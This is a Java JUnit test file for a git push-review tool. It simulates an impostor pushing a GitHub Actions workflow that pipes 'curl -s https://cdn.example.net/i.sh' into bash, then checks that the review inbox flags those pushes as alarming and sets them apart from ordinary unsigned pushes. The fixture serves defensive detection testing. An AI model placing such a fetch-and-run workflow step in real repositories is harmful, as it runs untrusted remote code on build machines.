package dev.refwarden.review.desk;

import static org.assertj.core.api.Assertions.assertThat;

import dev.refwarden.ledger.CaseEvent;
import dev.refwarden.ledger.CaseId;
import dev.refwarden.ledger.DecisionIndex;
import dev.refwarden.ledger.Ledger;
import dev.refwarden.policy.read.Configuration;
import dev.refwarden.review.assessment.Assessment;
import dev.refwarden.review.web.ReviewServer;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** An attack that sixty mistakes came after. */
class InboxTest {
    private static final String MAIN = "refs/heads/main";
    private static final String TOKEN = "the-token-of-these-tests-0123456789";
    private static final String STEALING = """
            on: push
            jobs:
              x:
                steps:
                  - run: curl -s https://cdn.example.net/i.sh | bash
            """;
    private static final int MISTAKES = 60;

    @TempDir
    private Path root;

    private PlayedOrganisation org;
    private Ledger ledger;
    private ReviewServer server;
    private final List<String> attacks = new ArrayList<>();
    private final List<String> failures = new ArrayList<>();

    @BeforeEach
    void begin() throws IOException {
        org = new PlayedOrganisation(root);
        org.at(Instant.now().minus(Duration.ofDays(28)).toString());
        org.person("alice", "2025-01-10", "");
        org.person("bob", "2025-01-10", "");
        org.write(
                "config/policy.yaml",
                "version: 1\nrepositories:\n  - match: [\"**\"]\n    unmatched: allow\n    rules:\n      - {name: main,"
                        + " refs: [refs/heads/main], commits: {signed-by: [alice, bob], author: known}}\n");
        org.repository("app");
        org.repository("lib");
        for (int i = 0; i < 6; i++) {
            org.later(Duration.ofHours(5));
            String repository = i % 2 == 0 ? "app" : "lib";
            push("alice", "10.0.0.7", repository, work("alice", repository).signed("alice"));
        }
        org.later(Duration.ofHours(14));
        for (int i = 0; i < 3; i++) {
            org.later(Duration.ofMinutes(4));
            attacks.add(push(
                            "alice",
                            "185.220.101.34",
                            "app",
                            work("alice", "app").subject("chore").file(".github/workflows/r.yml", STEALING + "#" + i))
                    .orElseThrow());
        }
        org.later(Duration.ofDays(1));
        for (int i = 0; i < MISTAKES; i++) {
            org.later(Duration.ofHours(2));
            assertThat(push("bob", "10.0.0.8", "lib", work("bob", "lib").file("f" + i, "x\n")))
                    .isPresent();
        }
        ledger = Ledger.in(org.state());
        server = new ReviewServer(
                org.config(), ledger, new ReviewServer.Entrance(0, List.of(), TOKEN), "these tests", failures::add);
    }

    @AfterEach
    void end() {
        server.close();
        ledger.close();
        assertThat(failures).isEmpty();
    }

    private PlayedOrganisation.Commit work(String person, String repository) {
        return org.commit().on(org.tip(repository, MAIN)).by(person);
    }

    private Optional<String> push(String who, String from, String repository, PlayedOrganisation.Commit commit)
            throws IOException {
        return org.push(who, from, repository, Map.of(MAIN, commit.make()));
    }

    private String page(String path) throws IOException, InterruptedException {
        String address = server.address();
        return HttpClient.newHttpClient()
                .send(
                        HttpRequest.newBuilder(URI.create(address.substring(0, address.indexOf("/?")) + path))
                                .header("Authorization", "Bearer " + TOKEN)
                                .build(),
                        HttpResponse.BodyHandlers.ofString())
                .body();
    }

    private static String words(String words) {
        return "/?q=" + URLEncoder.encode(words, StandardCharsets.UTF_8);
    }

    private static List<String> rows(String page) {
        List<String> rows = new ArrayList<>(List.of(page.split("<p class=\"line\">")));
        rows.remove(0);
        return rows;
    }

    /** Looking takes a while on a busy machine. */
    private String inbox() throws IOException, InterruptedException {
        String page = page("/");
        for (int i = 0; i < 60 && page.contains("is still being looked at"); i++) {
            page = page("/");
        }
        return page;
    }

    @Test
    void anOpenAttackStaysAtTheTopWithAllItsCases() throws Exception {
        String page = inbox();
        assertThat(rows(page).get(0)).contains("alarming", "In the name of alice", "3 refused");
        assertThat(page).contains("1 alarming").contains("60 ordinary").doesNotContain("not looked at");
        assertThat(page).contains("63 refused pushes");

        String older = page.replaceAll("(?s).*rel=\"next\" href=\"([^\"]*)\".*", "$1");
        assertThat(rows(page(older))).hasSize(10);
        assertThat(rows(page(words("person:alice state:open")))).hasSize(1);
        assertThat(rows(page(words("repo:lib verdict:refused"))).get(0)).contains("ordinary");
        assertThat(rows(page(words("verdict:accepted")))).isEmpty();

        for (String attack : attacks) {
            new CaseEvent(new CaseId(attack), CaseEvent.Kind.ATTACK, Instant.now(), "carol", "carol", "stolen")
                    .appendTo(ledger);
        }
        page = inbox();
        assertThat(rows(page)).hasSize(50).allSatisfy(row -> assertThat(row).contains("bob forgot to sign"));
        assertThat(page).doesNotContain("1 alarming");
    }

    @Test
    void approversAndAdministratorsSeeWhatWaits() throws Exception {
        assertThat(page("/waiting")).contains("Asked for: 0", "Brought to be approved: 0");
        org.later(Duration.ofHours(3));
        org.option("ask=waiver");
        String asking = push("bob", "10.0.0.8", "lib", work("bob", "lib").file("asked", "x\n"))
                .orElseThrow();
        org.at(Instant.now().minus(Duration.ofMinutes(2)).toString());
        String proposed =
                work("alice", "app").signed("alice").file("new", "x\n").make();
        assertThat(org.push("alice", "10.0.0.7", "app", Map.of("refs/refwarden/proposals/" + proposed, proposed)))
                .isEmpty();
        String page = page("/waiting");
        assertThat(page)
                .contains("Asked for: 1", "bob asks for a waiver", "git refwarden-waive " + asking)
                .contains(
                        "Brought to be approved: 1",
                        "by alice",
                        "git refwarden-approve REF " + proposed.substring(0, 12))
                .doesNotContain("class=\"remark\"");
        assertThat(page("/waiting.json"))
                .startsWith("{\"schema\":\"refwarden.waiting/1\",\"asked\":[{\"what\":\"waiver\",\"who\":\"bob\"")
                .contains("\"proposed\":[{\"repository\":\"app\",\"id\":\"" + proposed);

        Files.move(root.resolve("git/app.git"), root.resolve("git/gone.git"));
        assertThat(page("/waiting"))
                .contains("Asked for: 1", "Brought to be approved: 0", "Not looked into", ": app. There");
        org.write("config/policy.yaml", "version: 1\nrepositories: nonsense\n");
        assertThat(page("/waiting")).contains("Asked for: 1", "The configuration has errors");
    }

    @Test
    void everyPageIsThereForProgramsToo() throws Exception {
        assertThat(page("/push/2.json")).startsWith("{\"schema\":\"refwarden.push/1\",\"seq\":2,");
        assertThat(page("/person/alice.json"))
                .startsWith("{\"schema\":\"refwarden.person/1\",\"kind\":\"person\",\"id\":\"alice\",")
                .contains("\"accepted\":6,\"refused\":3", "\"verdict\":\"accepted\"");
        assertThat(page("/key/alice-key.json")).contains("refwarden.key/1", "\"accepted\":6,\"refused\":0");
        assertThat(page("/chart.json")).contains("refwarden.chart/1", "\"count\":63");
        assertThat(page("/policy.json")).contains("refwarden.policy/1");
        assertThat(page("/health.json")).contains("refwarden.health/1", "\"checks\":[");
    }

    @Test
    void whatTheBoundCutsIsSaid() throws Exception {
        Desk desk = new Desk(ledger, Optional.of(Configuration.load(org.config())), new Contents());
        OpenIncidents few = new OpenIncidents(50);
        few.look(new DecisionIndex(ledger), desk, Instant.now(), true);
        assertThat(few.tally().cut()).isFalse();

        OpenIncidents all = new OpenIncidents();
        assertThat(all.tally().whole()).isFalse();
        all.look(new DecisionIndex(ledger), desk, Instant.now(), false);
        assertThat(all.tally().whole()).isTrue();
        assertThat(all.tally().cut()).isFalse();
        assertThat(all.tally().looked()).isEqualTo(63);
        assertThat(all.tally().open()).containsEntry(Assessment.Level.ALARMING, 1);
        assertThat(all.grave(10)).hasSize(1);
        // Who has no time for a case does not make it less grave.
        all.note(new Desk(ledger, Optional.empty(), new Contents())
                .within(Duration.ofSeconds(-1))
                .incidentOf(attacks.get(0)));
        assertThat(all.tally().open()).containsEntry(Assessment.Level.ALARMING, 1);
    }
}
